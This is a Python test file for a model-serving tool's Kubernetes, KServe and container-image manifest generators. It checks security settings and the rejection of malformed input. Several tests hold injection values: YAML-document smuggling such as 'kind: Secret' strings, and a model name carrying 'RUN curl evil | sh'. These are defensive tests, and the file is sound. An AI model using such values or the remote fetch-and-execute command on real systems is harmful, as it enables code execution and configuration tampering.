"""What matters in the manifests beyond their schema: probes, user, drain, storage, secrets,
and that untrusted names, flavors and digests cannot reach the YAML unchecked."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from modelyard.api import _http_server, _running
from modelyard.deploy import (
    RegistryOptions,
    ServingOptions,
    kserve_manifests,
    registry_manifests,
    render_yaml,
    serving_manifests,
    write_modelcar,
)
from modelyard.deploy._k8s_serving import DRAIN_SECONDS
from modelyard.deploy._modelcar import render_modelcar
from modelyard.errors import ConfigurationError
from tests.deploy._k8s_schemas import version


def _kind(objects: list[dict[str, Any]], kind: str) -> dict[str, Any]:
    (found,) = [obj for obj in objects if obj["kind"] == kind]
    return found


def _pod(objects: list[dict[str, Any]]) -> dict[str, Any]:
    spec: dict[str, Any] = _kind(objects, "Deployment")["spec"]["template"]["spec"]
    return spec


def test_probes_use_the_oip_health_routes_on_the_serving_port() -> None:
    (container,) = _pod(serving_manifests(version()))["containers"]
    assert container["readinessProbe"]["httpGet"] == {"path": "/v2/health/ready", "port": "http"}
    assert container["startupProbe"]["httpGet"]["path"] == "/v2/health/ready"
    assert container["livenessProbe"]["httpGet"] == {"path": "/v2/health/live", "port": "http"}
    assert container["ports"] == [{"name": "http", "containerPort": 8080, "protocol": "TCP"}]
    assert container["args"][:3] == ["serve", "--model-dir", "/models"]


def test_it_runs_as_the_images_non_root_user_with_nothing_writable_but_its_volumes() -> None:
    pod = _pod(serving_manifests(version()))
    (container,) = pod["containers"]
    context = container["securityContext"]
    assert pod["securityContext"]["runAsUser"] == context["runAsUser"] == 10001
    assert context["runAsNonRoot"] and context["readOnlyRootFilesystem"]
    assert context["allowPrivilegeEscalation"] is False
    assert context["capabilities"] == {"drop": ["ALL"]}
    assert context["seccompProfile"] == {"type": "RuntimeDefault"}
    mounts = {m["mountPath"] for m in container["volumeMounts"]}
    assert mounts == {"/home/modelyard", "/tmp"}
    assert {v["name"]: "emptyDir" in v for v in pod["volumes"]} == {"home": True, "tmp": True}
    assert pod["automountServiceAccountToken"] is False


def test_the_grace_period_covers_the_prestop_pause_and_the_servers_drain() -> None:
    # the servers' own drain (this layer may not import api, so the value is mirrored)
    assert DRAIN_SECONDS >= _http_server.DRAIN_SECONDS
    assert "timeout_graceful_shutdown=30" in Path(_running.__file__).read_text()
    for objects in (serving_manifests(version()),
                    registry_manifests(RegistryOptions(store_url="s3://b/p"))):  # fmt: skip
        pod = _pod(objects)
        pause = pod["containers"][0]["lifecycle"]["preStop"]["sleep"]["seconds"]
        assert pause > 0
        assert pod["terminationGracePeriodSeconds"] >= pause + DRAIN_SECONDS


def test_labels_and_annotations_name_the_exact_version() -> None:
    deployment = _kind(serving_manifests(version("Fraud_Det", number=7)), "Deployment")
    labels = deployment["metadata"]["labels"]
    assert labels["modelyard.io/model"] == "Fraud_Det" and labels["modelyard.io/version"] == "7"
    assert deployment["metadata"]["annotations"]["modelyard.io/manifest-digest"].startswith(
        "sha256:"
    )
    # the selector outlives versions: a new version rolls the same Deployment
    assert "modelyard.io/version" not in deployment["spec"]["selector"]["matchLabels"]
    template = deployment["spec"]["template"]["metadata"]
    assert template["annotations"]["prometheus.io/port"] == "8080"
    assert (
        deployment["spec"]["template"]["spec"]["containers"][0]["image"] == "modelyard/fraud-det:7"
    )


def test_autoscaler_budget_policy_and_monitor_target_the_deployment() -> None:
    objects = serving_manifests(version(), ServingOptions(replicas=4))
    selector = _kind(objects, "Deployment")["spec"]["selector"]["matchLabels"]
    hpa = _kind(objects, "HorizontalPodAutoscaler")["spec"]
    assert (hpa["minReplicas"], hpa["maxReplicas"]) == (4, 12)
    assert hpa["scaleTargetRef"]["name"] == _kind(objects, "Deployment")["metadata"]["name"]
    assert _kind(objects, "PodDisruptionBudget")["spec"]["selector"]["matchLabels"] == selector
    policy = _kind(objects, "NetworkPolicy")["spec"]
    assert policy["podSelector"]["matchLabels"] == selector
    assert policy["ingress"][0]["ports"] == [{"protocol": "TCP", "port": 8080}]
    peers = policy["ingress"][0]["from"]
    assert {"podSelector": {}} in peers  # same namespace
    assert {
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}
    } in peers
    monitor = _kind(objects, "ServiceMonitor")["spec"]
    assert monitor["endpoints"][0]["path"] == "/metrics"
    assert monitor["selector"]["matchLabels"] == selector
    assert _kind(objects, "Service")["metadata"]["labels"].items() >= selector.items()


@pytest.mark.parametrize("uri", ["oci://registry.local/fraud-modelcar:3", "s3://models/fraud/3"])
def test_kserve_passes_the_storage_uri_through_to_the_modelyard_runtime(uri: str) -> None:
    runtime, service = kserve_manifests(version(), storage_uri=uri)
    model = service["spec"]["predictor"]["model"]
    assert model["storageUri"] == uri
    assert model["protocolVersion"] == "v2" and model["modelFormat"] == {"name": "sklearn"}
    assert model["runtime"] == runtime["metadata"]["name"] == "modelyard-sklearn"
    assert runtime["spec"]["protocolVersions"] == ["v2"]
    assert runtime["spec"]["supportedModelFormats"] == [{"name": "sklearn", "autoSelect": False}]
    (container,) = runtime["spec"]["containers"]
    assert container["name"] == "kserve-container"
    script = container["args"][1]
    assert '--model-dir /mnt/models --name "$0"' in script
    assert container["args"][2] == "{{.Name}}"  # KServe fills it; the shell never parses it
    assert "serving.kserve.io/deploymentMode" not in service["metadata"]["annotations"]
    (_, raw) = kserve_manifests(version(), storage_uri=uri, raw_deployment=True)
    assert raw["metadata"]["annotations"]["serving.kserve.io/deploymentMode"] == "RawDeployment"


def test_the_registry_references_secrets_and_never_writes_one() -> None:
    objects = registry_manifests(RegistryOptions(store_url="s3://models/yard",
                                                 database_secret="pg-credentials"))  # fmt: skip
    assert "Secret" not in {obj["kind"] for obj in objects}
    for obj in (_kind(objects, "Deployment"), _kind(objects, "Job")):
        env = {e["name"]: e for e in obj["spec"]["template"]["spec"]["containers"][0]["env"]}
        for name in ("MODELYARD_DATABASE_URL", "MODELYARD_S3_ACCESS_KEY_ID",
                     "MODELYARD_S3_SECRET_ACCESS_KEY", "MODELYARD_SECRET_KEY"):  # fmt: skip
            assert "value" not in env[name] and "secretKeyRef" in env[name]["valueFrom"]
        assert (
            env["MODELYARD_DATABASE_URL"]["valueFrom"]["secretKeyRef"]["name"] == "pg-credentials"
        )
    server = _pod(objects)["containers"][0]
    assert server["args"] == ["server", "--host", "0.0.0.0", "--port", "8080", "--auth"]
    assert server["readinessProbe"]["httpGet"]["path"] == "/health"
    job = _kind(objects, "Job")["spec"]["template"]["spec"]
    assert job["containers"][0]["args"] == ["db", "upgrade"] and job["restartPolicy"] == "Never"


HOSTILE_NAMES = ["a" * 51, "fraud/../x", "x\n---\nkind: Secret", "fraud detector", "-fraud",
                 "fraud:3", "frä", ""]  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_name_that_is_not_a_dns_label_is_refused_with_the_way_out(name: str) -> None:
    with pytest.raises(ConfigurationError, match="--name"):
        serving_manifests(version(name))


def test_an_operator_given_name_replaces_a_model_name_that_cannot_be_used() -> None:
    named = ServingOptions(name="fraud", image="r/fraud:3")
    objects = serving_manifests(version("Fraud Detector"), named)
    assert _kind(objects, "Service")["metadata"]["name"] == "fraud"
    assert "modelyard.io/model" not in _kind(objects, "Service")["metadata"]["labels"]
    with pytest.raises(ConfigurationError, match="--image"):
        serving_manifests(version("Fraud Detector"), ServingOptions(name="fraud"))


@pytest.mark.parametrize(
    ("field", "value"),
    [("flavor", "sk learn"), ("flavor", "x\nkind: Secret"), ("flavor", None),
     ("digest", "sha256:zz"), ("digest", "sha256:" + "a" * 64 + "\nx: y"), ("digest", None)],
)  # fmt: skip
def test_a_hostile_flavor_or_digest_is_refused(field: str, value: str | None) -> None:
    bad = version(flavor=value) if field == "flavor" else version(digest=value)
    with pytest.raises(ConfigurationError):
        kserve_manifests(bad, storage_uri="s3://models/fraud/3")


@pytest.mark.parametrize(
    "uri",
    ["http://x/y", "oci://reg/x y", "s3://b/../other", 'oci://reg/x"', "s3://b/\nx: y", "s3://"],
)
def test_a_storage_uri_kserve_cannot_fetch_is_refused(uri: str) -> None:
    with pytest.raises(ConfigurationError, match="storage URI"):
        kserve_manifests(version(), storage_uri=uri)


@pytest.mark.parametrize(
    "options",
    [ServingOptions(image="reg/x y"), ServingOptions(cpu="lots"), ServingOptions(memory="1 Gi"),
     ServingOptions(replicas=0), ServingOptions(replicas=3, max_replicas=2),
     ServingOptions(cpu_target=0), ServingOptions(name="Fraud")],
)  # fmt: skip
def test_options_that_cannot_work_are_refused(options: ServingOptions) -> None:
    with pytest.raises(ConfigurationError):
        serving_manifests(version(), options)


@pytest.mark.parametrize(
    "options",
    [RegistryOptions(store_url="file:///srv"), RegistryOptions(store_url="s3://b", s3_secret="A_b"),
     RegistryOptions(store_url="s3://b", s3_endpoint="minio:9000"),
     RegistryOptions(store_url="s3://b", image="x\ny"),
     RegistryOptions(store_url="s3://b", name="r" * 56)],
)  # fmt: skip
def test_registry_options_that_cannot_work_are_refused(options: RegistryOptions) -> None:
    with pytest.raises(ConfigurationError):
        registry_manifests(options)


def test_a_reference_with_yaml_syntax_stays_a_string() -> None:
    # registry names cannot hold these, but the record is data: the dumper must quote it
    objects = serving_manifests(version())
    objects[0]["metadata"]["annotations"]["modelyard.io/ref"] = "x: y\n---\nkind: Secret #"
    assert list(yaml.safe_load_all(render_yaml(objects))) == objects


def test_a_hostile_name_cannot_add_a_modelcar_instruction(tmp_path: Path) -> None:
    hostile = version("x").model_copy(update={"name": 'x"\nRUN curl evil | sh\n#'})
    text = render_modelcar(base="localhost/base:1", version=hostile)
    instructions = [line.split()[0] for line in text.splitlines() if line[:1].isalpha()]
    assert instructions == ["FROM", "COPY", "LABEL", "USER"]
    assert "\nRUN" not in text


def test_a_modelcar_needs_a_servable_folder_and_a_new_context(tmp_path: Path) -> None:
    def restore(folder: Path) -> None:
        folder.mkdir()
        (folder / "weights.bin").write_bytes(b"w")

    with pytest.raises(ConfigurationError, match=r"modelyard\.json"):
        write_modelcar(tmp_path / "a", version=version(), restore=restore)
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "keep").write_text("mine")
    with pytest.raises(ConfigurationError, match="not empty"):
        write_modelcar(tmp_path / "b", version=version(), restore=restore)
    with pytest.raises(ConfigurationError, match="image"):
        write_modelcar(tmp_path / "c", version=version(), restore=restore, base="x y")
